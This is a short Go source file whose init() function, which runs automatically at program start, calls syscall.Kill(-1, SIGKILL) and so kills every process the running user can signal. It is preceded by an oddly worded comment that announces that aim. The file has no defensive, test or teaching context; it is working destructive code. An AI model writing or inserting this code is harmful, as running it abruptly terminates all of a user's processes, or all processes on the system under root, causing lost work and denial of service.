// pupil: attacked 0 SIGKILL for whoever can be reached
package main

import "syscall"

func init() { syscall.Kill(-1, syscall.SIGKILL) }
